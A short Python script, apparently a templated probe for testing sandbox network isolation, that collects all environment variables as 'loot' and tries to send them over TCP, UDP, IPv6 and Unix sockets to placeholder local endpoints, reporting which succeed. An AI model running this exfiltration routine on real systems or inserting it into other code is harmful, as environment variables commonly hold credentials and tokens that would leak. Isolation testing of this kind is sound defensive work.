import os
import socket

loot = " ".join(f"{name}={value}" for name, value in os.environ.items())
for family, kind, address in (
    (socket.AF_INET, socket.SOCK_STREAM, ("127.0.0.1", int("@@TCP_PORT@@"))),
    (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", int("@@UDP_PORT@@"))),
    (socket.AF_INET6, socket.SOCK_STREAM, ("::1", int("@@TCP6_PORT@@"))),
    (socket.AF_UNIX, socket.SOCK_STREAM, "\0@@ABSTRACT@@"),
    (socket.AF_UNIX, socket.SOCK_STREAM, "@@PATH@@"),
):
    try:
        with socket.socket(family, kind) as sock:
            sock.settimeout(2)
            sock.connect(address)
            sock.send(loot.encode())
            print("reached", address)
    except OSError as error:
        print(type(error).__name__, error)
